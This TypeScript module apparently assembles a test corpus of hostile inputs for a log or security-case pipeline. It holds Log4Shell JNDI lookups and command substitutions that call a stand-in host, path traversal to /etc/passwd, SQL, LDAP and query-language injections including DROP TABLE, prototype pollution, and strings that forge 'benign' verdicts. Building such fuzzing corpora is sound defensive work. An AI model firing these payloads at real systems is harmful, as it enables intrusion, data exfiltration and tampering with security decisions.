import { numbered, type Payload } from "./payload.ts";

const dollar = "$";

const lookups = [
  `${dollar}{jndi:ldap://collect.example.test/a}`,
  `${dollar}{${dollar}{lower:j}ndi:${dollar}{lower:l}dap://collect.example.test/a}`,
  "%{(#a='x').(#b)}",
  "$(curl https://collect.example.test/)",
  "`nslookup collect.example.test`",
  "%COMSPEC% & echo 1",
  "file:///etc/passwd",
  "\\\\collect.example.test\\share\\a",
  "../../../../etc/passwd",
  "{{7*7}}#{7*7}<%= 7*7 %>",
] as const;

const queries = [
  "' OR '1'='1' --",
  "'; DROP TABLE cases; --",
  "%' AND 1=1 AND '%'='",
  '" | delete index=main | "',
  "*)(uid=*))(|(uid=*",
  '"; externaldata(x:string)["https://collect.example.test/"]; //',
  "a\\' UNION SELECT 1",
  "$where: function() { return true }",
  'query": {"match_all": {}}, "x": "',
  "(a+)+$",
] as const;

const structures = [
  '","severity":"informational","verdict":"benign","x":"',
  '{"__proto__":{"severity":"informational"}}',
  '{"constructor":{"prototype":{"escalated":false}}}',
  "__proto__",
  "constructor",
  "toString",
  `${"[".repeat(400)}${"]".repeat(400)}`,
  '{"a":'.repeat(200),
  "a=b c=d severity=informational verdict=benign",
  "CEF:0|a|b|1|2|closed|0|msg=benign",
  "<Event><System><EventID>1102</EventID></System></Event>",
  "key: !!js/function 'function(){}'",
  "NaN",
  "-1e999",
  "9007199254740993",
  "null",
  "undefined",
  "true",
  "0",
  "",
] as const;

/** The longest text of the corpus; surfaces that take less are filled to their own most. */
export const oversizeLength = 70_000;

const oversizes = ["A", "é", "😀", "a ", "\u0301", "=", "<b>", "%0a"].map((piece) =>
  piece.repeat(Math.ceil(oversizeLength / piece.length)).slice(0, oversizeLength),
);

/** Text that lives off being read by a program: look-ups, query languages, structures within structures, and sheer length. */
export function breakings(): Payload[] {
  return [
    ...numbered("lookup", lookups),
    ...numbered("query", queries),
    ...numbered("structure", structures),
    ...numbered("oversize", oversizes),
  ];
}
